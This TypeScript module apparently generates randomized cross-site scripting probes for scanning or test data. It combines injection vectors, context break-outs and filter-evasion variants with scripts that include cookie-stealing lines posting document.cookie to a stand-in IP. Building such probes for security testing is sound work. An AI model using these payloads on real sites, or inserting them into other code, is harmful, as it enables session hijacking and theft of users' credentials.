// Cross-site scripting probes as scanners and cheat sheets write them: a script to run, an
// injection vector to carry it, a prefix to break out of the reflecting context, and the usual
// filter-evasion variants (case, encodings, whitespace tricks). Combined per run from the rng.
import { chance, intBetween, pick, pickWeighted, type Rng } from "./random.ts";

const SCRIPTS = [
  "alert(1)", "alert('XSS')", "alert(document.cookie)", "alert(document.domain)", "confirm(1)", "prompt(1)",
  "alert(String.fromCharCode(88,83,83))", "print()", "console.log(document.cookie)",
  "document.location='http://203.0.113.66/c?'+document.cookie",
  "new Image().src='http://203.0.113.66/s?c='+escape(document.cookie)",
  "fetch('http://203.0.113.66/x',{method:'POST',body:document.cookie})",
  "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)", "window.onerror=alert;throw 1",
] as const;

/** Vectors: `$` is where the script goes. */
const VECTORS = [
  "<script>$</script>",
  "<script type=\"text/javascript\">$</script>",
  "<img src=x onerror=$>",
  "<img src=\"x\" onerror=\"$\">",
  "<svg/onload=$>",
  "<svg onload=\"$\">",
  "<body onload=$>",
  "<iframe src=\"javascript:$\"></iframe>",
  "<a href=\"javascript:$\">click</a>",
  "<input autofocus onfocus=$>",
  "<details open ontoggle=$>",
  "<video><source onerror=\"$\"></video>",
  "<marquee onstart=$>",
  "<div onmouseover=\"$\">hover</div>",
  "<object data=\"javascript:$\"></object>",
  "<math><mtext><table><mglyph><style><img src=x onerror=$>",
  "javascript:$",
  "';$;//",
  "\";$;//",
  "<scr<script>ipt>$</scr</script>ipt>",
  "<IMG SRC=javascript:$>",
  "<BODY BACKGROUND=\"javascript:$\">",
  "<style>@import'javascript:$';</style>",
  "<embed src=\"javascript:$\">",
] as const;

/** Context break-outs that precede the vector. */
const PREFIXES = ["", "", "", "\">", "'>", "\"/>", "</title>", "</textarea>", "--></script>", "\" ", "' "] as const;

function randomCase(rng: Rng, s: string): string {
  return s.replace(/[a-z]/gi, (c) => (rng() < 0.5 ? c.toUpperCase() : c.toLowerCase()));
}

/** Evasions a filter-bypass list applies to an otherwise plain payload. */
function evade(rng: Rng, payload: string): string {
  switch (pickWeighted(rng, [["none", 6], ["case", 2], ["entities", 1], ["tab", 1], ["slash", 1], ["null", 1]] as const)) {
    case "case":
      // Tag and attribute names only: the script itself must still run.
      return payload.replace(/<\/?[a-z]+|on[a-z]+=/gi, (m) => randomCase(rng, m));
    case "entities":
      return payload.replace(/alert|confirm|prompt/g, (m) => [...m].map((c) => `&#${c.charCodeAt(0)};`).join(""));
    case "tab":
      return payload.replace("javascript:", "java\tscript:").replace(" onerror", "\nonerror");
    case "slash":
      return payload.replace(/<(img|svg|body|input) /i, "<$1/");
    case "null":
      return payload.replace("<script", "<scr\u0000ipt");
    default:
      return payload;
  }
}

export function xssPayload(rng: Rng): string {
  const script = pick(rng, SCRIPTS);
  const vector = pick(rng, VECTORS).replaceAll("$", script);
  const trailer = chance(rng, 0.2) ? pick(rng, ["<!--", "//", "#", `&x=${intBetween(rng, 1, 999)}`]) : "";
  return evade(rng, `${pick(rng, PREFIXES)}${vector}${trailer}`);
}

/** `count` distinct payloads (fewer only if the combinations run out). */
export function xssPayloads(rng: Rng, count: number): string[] {
  const out = new Set<string>();
  for (let guard = 0; out.size < count && guard < count * 30; guard++) out.add(xssPayload(rng));
  return [...out];
}
